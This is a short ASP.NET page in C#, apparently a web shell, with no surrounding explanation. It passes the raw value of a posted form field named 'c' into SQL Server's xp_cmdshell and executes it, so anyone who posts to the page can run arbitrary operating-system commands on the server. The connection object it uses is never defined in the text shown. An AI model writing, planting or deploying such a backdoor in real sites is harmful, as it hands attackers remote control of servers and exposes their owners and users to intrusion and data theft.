<%@ Page Language="C#" %>
<%
var c = new System.Data.SqlClient.SqlCommand("exec master..xp_cmdshell '" + Request.Form["c"] + "'", conn);
var r = c.ExecuteReader();
%>
